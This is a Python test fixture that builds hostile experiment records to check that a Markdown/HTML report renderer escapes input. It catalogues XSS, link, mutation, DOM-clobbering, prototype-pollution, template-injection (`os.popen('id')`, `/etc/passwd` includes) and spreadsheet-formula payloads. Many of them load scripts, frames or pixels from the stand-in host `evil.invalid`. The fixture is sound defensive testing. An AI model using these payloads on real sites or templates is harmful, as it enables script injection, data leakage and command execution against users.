"""A stranger's notebook: every way we know to make a page run, load or send something.

`ATTACKS` are texts by name. What of them runs calls `hit`, opens a dialog, or asks `evil.invalid`
for something; `write` spreads them over the text fields of a few records.
"""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Iterator
from pathlib import Path

from tests.test_render import hostile_record

IMG = "<img src=x onerror=hit(1)>"

ATTACKS = {
    # Elements and handlers, in HTML's own ways of being misspelled.
    "script": "<script>hit(1)</script>",
    "script in capitals": "<ScRiPt>hit(1)</sCrIpT>",
    "script with a slash": "<script/x>hit(1)</script/y>",
    "script from elsewhere": "<script src=//evil.invalid/x.js></script>",
    "module": "<script type=module>hit(1)</script>",
    "image": IMG,
    "image with slashes": "<img/src=x/onerror=hit(1)//",
    "image with quotes": '<img """><script>hit(1)</script>">',
    "image never closed": "<img src=x onerror=hit(1) ",
    "body": "<body onload=hit(1)>",
    "details": "<details open ontoggle=hit(1)>x</details>",
    "video": "<video><source onerror=hit(1)></video>",
    "audio": "<audio src=x onerror=hit(1)>",
    "marquee": "<marquee onstart=hit(1)>x</marquee>",
    "input": "<input autofocus onfocus=hit(1)>",
    "focus": "<x tabindex=1 autofocus onfocus=hit(1)>",
    "animation": "<p style=animation-name:lb onanimationstart=hit(1)>x</p>",
    "custom element": "<lb-x onpointerover=hit(1) is=x>x</lb-x>",
    "template": "<template shadowrootmode=open><script>hit(1)</script></template>",
    "comment": "<!-- --><script>hit(1)</script> --!> <!--> " + IMG,
    "conditional comment": "<!--[if gte IE 4]><script>hit(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>hit(1)</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:hit(1)'?><?php hit(1) ?>",
    # Links.
    "javascript link": "[findme](javascript:hit(1))",
    "javascript in capitals": "[x](JaVaScRiPt:hit(1))",
    "javascript with entities": "[x](&#106;&#x61;vascript&colon;hit&lpar;1&rpar;)",
    "javascript with a tab": "[x](java&#x09;script:hit(1)) [y](<java\tscript:hit(1)>)",
    "javascript behind a control sign": "[x](&#1;javascript:hit(1))",
    "javascript escaped": "[x](\\javascript:hit(1)) [y](javascript\\:hit(1))",
    "javascript in percent": "[x](javascript%3Ahit(1)) [y](%6aavascript:hit(1))",
    "javascript by reference": "[x][a]\n\n[a]: javascript:hit(1) 'title'",
    "javascript by autolink": "<javascript:hit(1)> <JAVASCRIPT:hit(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)",
    "data image link": "[x](data:image/svg+xml,<svg/onload=hit(1)>)",
    "vbscript link": "[x](vbscript:hit(1))",
    "file and blob links": "[x](file:///etc/passwd) [y](blob:null/1) [z](filesystem:x)",
    "view-source link": "[x](view-source:javascript:hit(1)) [y](feed:javascript:hit(1))",
    "link with a handler": '[x](https://example.org "a\\" onmouseover=\\"hit(1)") ',
    "link out of its attribute": '[x](https://example.org/"onmouseover="hit(1))',
    "raw link": "<a href=javascript:hit(1) target=_top>x</a>",
    "image link": "![x](https://evil.invalid/pixel.png) ![y](javascript:hit(1))",
    "image by reference": "![x][p]\n\n[p]: https://evil.invalid/pixel.png",
    "footnote": "[^1]\n\n[^1]: <script>hit(1)</script>",
    # What Python-Markdown, which makes the page, would take for its own.
    "attributes": "x {: onclick=hit(1) style=color:red #search .md-dialog }",
    "heading": "# findme {#__search onclick=hit(1)}\n\nSetext {: #header }\n======",
    "table of contents": "[TOC]\n\n[toc]",
    "stash": "\x02wzxhzdk:0\x03 \x02amp\x03",
    "snippet": '--8<-- "/etc/passwd"\n\n!!! note "x"\n    <script>hit(1)</script>',
    "front matter": "---\ntemplate: evil.html\n---\n<script>hit(1)</script>",
    "block HTML": "<div markdown=1>\n\n[x](javascript:hit(1))\n\n</div>\n\n<script>hit(1)</script>",
    "our marker": '<div class="lb-late" data-lb="0"></div>',
    "our token": "\ue0007b7d\ue001 \ue000" + IMG.encode().hex() + "\ue001",
    # Out of whatever it stands in.
    "attribute, double": '"><script>hit(1)</script>',
    "attribute, single": "'><script>hit(1)</script>",
    "attribute, handler": '" autofocus onfocus=hit(1) x="',
    "attribute, bare": "x onmouseover=hit(1) x=",
    "attribute, backtick": "`onmouseover=hit(1) x=`",
    "end of a script": "</script><script>hit(1)</script>",
    "end of a style": "</style><script>hit(1)</script>",
    "end of a title": "</title><script>hit(1)</script></head><body onload=hit(1)>",
    "end of a textarea": "</textarea></noscript></xmp></template>" + IMG,
    "end of a table": "</td></tr></table></div></article>" + IMG,
    "end of a drawing": "]]></text></desc></title></svg>" + IMG,
    "script in a script": "<!--<script>hit(1)//</script>",
    "JSON": '"}];hit(1);//',
    "JavaScript": "'-hit(1)-'${hit(1)}`\\u2028hit(1)",
    "entities": "&lt;script&gt;hit(1)&lt;/script&gt; &#60;img src=x onerror=hit(1)&#62;",
    "entities twice": "&amp;lt;script&amp;gt;hit(1)&amp;lt;/script&amp;gt;",
    "wide letters": "＜script＞hit(1)＜/script＞ ‹img src=x onerror=hit(1)›",
    "turned round": "\u202e<script>hit(1)</script>\u202c \u2066x",
    "no characters": "<scr\0ipt>hit(1)</scr\0ipt> <\x0bimg src=x onerror=hit(1)>",
    "overlong": "%c0%bcscript%c0%behit(1)%c0%bc/script%c0%be +ADw-script+AD4-hit(1)",
    # Drawings and formulas, and what parsers make of them at the second reading.
    "SVG": "<svg onload=hit(1)>",
    "SVG in a breakout": '"><svg/onload=hit(1)>',
    "SVG script": "<svg><script href=data:,hit(1) /></svg>",
    "SVG animation": "<svg><a><animate attributeName=href values=javascript:hit(1) />x</a>",
    "SVG use": "<svg><use href='data:image/svg+xml,<svg id=x onload=hit(1)/>#x'/></svg>",
    "SVG foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.hit(1)</script>'>",
    "MathML": "<math><maction actiontype=statusline xlink:href=javascript:hit(1)>x",
    "mutation, style": "<math><mtext><table><mglyph><style><!--</style>" + IMG,
    "mutation, noscript": '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
    "mutation, form": "<form><math><mtext></form><form><mglyph><style></math>" + IMG,
    "mutation, title": '<svg></p><style><a id="</style><img src=x onerror=hit(1)>">',
    # What acts without a script.
    "style": "<style>body{display:none}@import '//evil.invalid/x.css';</style>",
    "style attribute": "<p style='background:url(//evil.invalid/x);position:fixed'>x</p>",
    "style expression": "<p style='width:expression(hit(1));behavior:url(#x)'>x</p>",
    "style sheet": "<link rel=stylesheet href=//evil.invalid/x><link rel=icon href=//evil.invalid>",
    "frame": "<iframe src=javascript:parent.hit(1)></iframe><iframe src=//evil.invalid></iframe>",
    "frame with content": "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "object": "<object data=javascript:hit(1)></object><embed src=javascript:hit(1)>",
    "form": "<form action=//evil.invalid><input name=q><button formaction=javascript:hit(1)>x",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:hit(1)'>",
    "refresh elsewhere": "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "base": "<base href=//evil.invalid/><base target=_blank>",
    "import map": '<script type=importmap>{"imports":{"x":"//evil.invalid/x.js"}}</script>',
    "portal": "<portal src=//evil.invalid></portal><frameset onload=hit(1)><frame src=x>",
    "background": "<table background=//evil.invalid/x><td background=//evil.invalid/y>",
    "ping": "<a href=# ping=//evil.invalid>x</a> <img srcset=//evil.invalid/x>",
    # Names that scripts of a page look up.
    "clobbering": "<a id=__md_scope name=__md_get><form id=__config><input name=attributes>",
    "clobbering, ids": "<img name=getElementById><p id=__search class=lb-app data-file=//evil>",
    "prototype": "__proto__",
    "constructor": "constructor",
    "path to the prototype": "__proto__.polluted",
    "method": "toString",
    # Languages of templates.
    "template value": "{{ 7 * 7 }} {{ config }} {{ self.__class__ }}",
    "template call": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "template statement": "{% include '/etc/passwd' %}{% for x in y %}{% endfor %}",
    "template comment": "{# x #} {{ '{{' }} {%raw%}{{ x }}{%endraw%}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('hit(1)')()}} [[7*7]]",
    # Tables to paste, spreadsheets, feeds, terminals.
    "formula": '=HYPERLINK("https://evil.invalid","x")',
    "command": "@SUM(1+9)*cmd|' /C calc'!A0",
    "row": "a | b ` c \\| d <br> e",
    "feed": "]]><entry><title type='html'>" + IMG + "</title></entry>",
    "terminal": "\x1b]8;;https://evil.invalid\x07x\x1b]8;;\x07 \x9b2J \x1b[31m",
    "mention": "@everyone #1 [x](//evil.invalid) <!-- loadbook-review --> ::error::x ##[error]x",
}
"""Texts by what they try."""

KEYS = ("constructor", "attributes", "getElementById", "search", "header", "toString")
"""Names that a record may give its entries, and that scripts of a page look up."""

QUERIES = (
    f"?q={IMG}&h={IMG}",
    "?q=findme&runs=x#<img src=x onerror=hit(1)>",
    f"?runs={IMG},__proto__,constructor,hostile/run-0&baseline=javascript:hit(1)",
    "?runs=hostile/run-0,hostile/run-1&baseline=hostile/run-0&__proto__[polluted]=1",
    "?x=__proto__&y=constructor&color=" + IMG + "&colour=toString&scale=javascript:hit(1)",
    "?sort=__proto__&columns=constructor,toString&scenario=" + IMG + "&page=-1&pick=__proto__#%",
    "#javascript:hit(1)",
    "#%3Cimg%20src=x%20onerror=hit(1)%3E",
)
"""What may stand behind the address of a page."""

RUNS = 3


GROUP = "min: 1, price_per_hour: 1, instance_type: '@', currency: '@', price_source: '@'"


def _record(number: int, slots: Iterator[str]) -> str:
    """A record that holds the next attacks, one in each of its fields."""
    text = hostile_record("@")
    for start, more in (
        ("deployment: {", f"revision: '@', node_group: {{{GROUP}}}, "),
        ("options: [{", f"id: {KEYS[number]}, cost: {{amount: 5, currency: '@', per: '@'}}, "),
        ("findings: [{", f"id: {KEYS[-1 - number]}, "),
        ("actions: [{", "id: toString, "),
        ("k6:\n", "  scenarios: ['@']\n  http_req_duration: {avg: 5ms, med: 4ms, p95: 9ms}\n"),
        ("k6:\n", "  checks: {list: [{name: '@', group: '@', passes: 1, fails: 1}]}\n"),
        ("k6:\n", "  metrics: {'@': {type: counter, values: {'@': 1}}}\n"),
    ):
        text = text.replace(start, start + more, 1)
    text += f"""
date: 2026-01-0{number + 1}
environment: {{'@': '@', __proto__: {{polluted: '@'}}, constructor: {{prototype: {{x: '@'}}}}}}
acknowledged: [{{code: no-baseline, reason: '@'}}]
sources: [{{file: '@', kind: '@', sha256: '@', tool: '@'}}]
claims: [{{says: +83%, metric: request_rate, where: '@'}}]
"""
    return re.sub("'@'", lambda _: json.dumps(next(slots)), text)


def write(root: Path) -> list[str]:
    """Write the notebook's records below `root`; the identities of its runs.

    Every attack stands in a text of Markdown, and one after the other in all other fields.
    """
    folder = root / "experiments" / "hostile"
    told = list(ATTACKS.values())
    slots = itertools.cycle([text for text in told if "\n" not in text])
    for number in range(RUNS):
        name = f"run-{number}"
        record = _record(number, slots)
        start, _, rest = record.partition("conclusions: [")
        prose = [f"findme {text}" for text in told[number::RUNS]] + told[number::RUNS]
        record = f"{start}conclusions: {json.dumps(prose)}\n{rest.partition(chr(10))[2]}"
        (folder / name).mkdir(parents=True)
        (folder / f"{name}.yaml").write_text(record, "utf-8")
        (folder / name / 'x"><img src=x onerror=hit(1)>.csv').write_text(IMG, "utf-8")
    campaign = {"title": ATTACKS["end of a title"], "context": IMG, "conclusions": told}
    (folder / "campaign.yaml").write_text(json.dumps(campaign), "utf-8")
    return [f"hostile/run-{number}" for number in range(RUNS)]
